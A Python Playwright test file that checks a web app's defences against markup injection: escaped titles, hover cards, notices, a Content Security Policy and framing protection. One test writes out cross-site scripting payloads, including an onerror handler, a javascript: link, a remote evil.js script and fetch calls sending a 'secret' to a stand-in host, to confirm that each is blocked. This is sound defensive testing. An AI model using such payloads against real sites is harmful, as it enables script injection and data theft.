"""Markup in every text, in a real browser: nothing of it runs on any page, hover card, notice or dialog.

Seen before the defences: the project's title ran as a script in the page's head, which Material UI's template fills
without escaping. All other texts were shown as text already; the policy is the second wall behind them.
"""

from __future__ import annotations

import io
from collections.abc import Iterator

import numpy as np
import pytest
from PIL import Image
from playwright.sync_api import Browser, Page, expect

from app.session import PAGES
from tests.browser.pages import CARD, open_page, wait_for_item
from tests.security.hostile import BREAK_OUT, CLASSES, MARK, make_hostile
from tests.servers import RunningServer, serving, wait_for

pytestmark = pytest.mark.browser


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Iterator[RunningServer]:
    """Serve the project whose every text is markup."""
    project = make_hostile(tmp_path_factory.mktemp("hostile"))
    project.close()
    with serving(project.paths.config) as running:
        yield running


def calm(page: Page) -> None:
    """Check that nothing ran; `open_page` checks that nothing tried to."""
    assert page.evaluate("window.pwned") is None
    assert page.locator("[onerror], [onload]").count() == 0


def opened(page: Page, name: str) -> None:
    """Choose a page in the header and wait until it is built."""
    page.locator("header").get_by_role("button", name=name, exact=True).click()
    expect(page.get_by_role("heading", name=name, level=1)).to_be_attached()
    page.wait_for_timeout(700)


def points_of(page: Page) -> list[tuple[float, float]]:
    """Return some places of the window where the map has a point: pixels of a strong colour."""
    box = page.locator("canvas").first.bounding_box()
    assert box is not None
    picture = page.screenshot(
        clip={"x": box["x"], "y": box["y"], "width": box["width"], "height": box["height"]}
    )
    pixels = np.asarray(Image.open(io.BytesIO(picture)).convert("RGB")).astype(int)
    rows, columns = np.nonzero(pixels.max(axis=2) - pixels.min(axis=2) > 60)
    assert len(rows)
    chosen = np.random.default_rng(0).permutation(len(rows))[:8]
    return [(box["x"] + float(columns[place]), box["y"] + float(rows[place])) for place in chosen]


def test_markup__is_text_on_every_page(chromium: Browser, hostile: RunningServer) -> None:
    with open_page(chromium, hostile.url) as page:
        wait_for_item(page)
        assert page.title() == BREAK_OUT
        assert page.locator("meta[name=title]").get_attribute("content") == f"{BREAK_OUT} · goldpan"
        expect(page.locator(".class .name").first).to_have_text(CLASSES[0])
        expect(page.locator(CARD)).to_contain_text(MARK)
        for name in PAGES:
            opened(page, name)
            calm(page)


def test_markup__is_text_on_the_map_and_in_a_notice(chromium: Browser, hostile: RunningServer) -> None:
    with open_page(chromium, hostile.url, page="Explore") as page:
        expect(page.locator("canvas").first).to_be_visible()
        page.wait_for_timeout(1500)
        card = page.locator(".goldpan-hover .hover:visible")
        for x, y in points_of(page):
            page.mouse.move(x, y)
            page.wait_for_timeout(600)
            if card.count():
                break
        expect(card).to_contain_text(MARK)
        page.mouse.down()
        page.mouse.up()
        seek_button = page.get_by_role("button", name="Seek more like this")
        seek_button.click()
        notice = page.get_by_text("The next round looks for more like")
        expect(notice).to_contain_text(MARK)
        calm(page)


def test_markup__page_of_a_stranger_cannot_run_what_it_puts_in(
    chromium: Browser, hostile: RunningServer
) -> None:
    """Before the policy all three ran: an element's handler, a script element, an address of scripts."""
    context = chromium.new_context()
    page = context.new_page()
    page.goto(hostile.url)
    page.evaluate(
        """() => {
            window.stopped = []
            const note = (event) => window.stopped.push([event.effectiveDirective, event.blockedURI])
            document.addEventListener("securitypolicyviolation", note)
            document.body.insertAdjacentHTML("beforeend", "<img src=x onerror='window.pwned=1'>")
            const script = document.createElement("script")
            script.textContent = "window.pwned=2"
            document.body.append(script)
            const link = document.createElement("a")
            link.href = "javascript:window.pwned=3"
            document.body.append(link)
            link.click()
            const far = document.createElement("script")
            far.src = "http://localhost:1/evil.js"
            document.body.append(far)
            const frame = document.createElement("iframe")
            frame.src = "http://localhost:1/"
            document.body.append(frame)
            fetch("http://localhost:1/?secret=1").catch(() => {})
            new Image().src = "http://localhost:1/?secret=1"
        }"""
    )

    def stopped() -> set[str]:
        told = page.evaluate("window.stopped")
        return {by for by, what in told if what == "inline" or what.startswith("http://localhost:1")}

    wanted = {"script-src-attr", "script-src-elem", "frame-src", "connect-src", "img-src"}
    wait_for(lambda: wanted <= stopped(), what="all of it stopped, and each by its own line of the policy")
    assert page.evaluate("window.pwned") is None
    context.close()


def test_page__cannot_be_framed_by_another_site(chromium: Browser, hostile: RunningServer) -> None:
    context = chromium.new_context()
    page = context.new_page()
    said: list[str] = []
    page.on("console", lambda message: said.append(message.text))
    page.set_content(f'<iframe src="{hostile.url}" onload="window.framed=1"></iframe>')
    wait_for(lambda: page.evaluate("window.framed"), what="the frame")
    frame = page.frames[1]
    # The page draws itself later than it loads: what it is drawn by must not be there.
    assert "bokeh" not in frame.content().lower()
    context.close()
